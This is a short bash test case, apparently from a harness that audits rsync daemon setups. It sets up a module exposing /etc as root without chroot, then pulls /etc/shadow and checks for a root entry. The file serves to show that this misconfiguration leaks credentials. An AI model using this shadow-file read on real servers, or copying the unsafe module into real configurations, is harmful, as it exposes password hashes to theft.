# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1003.008
about="the configuration has a module for /etc, read as root"
attack() {
	configure <<-end
		[etc]
			path = /etc
			uid = root
			use chroot = no
	end
	sync $url/etc/shadow "$state/answer"
}
before() { rm -rf "$state/answer"; }
effect() { grep -q '^root:' "$state/answer"; }
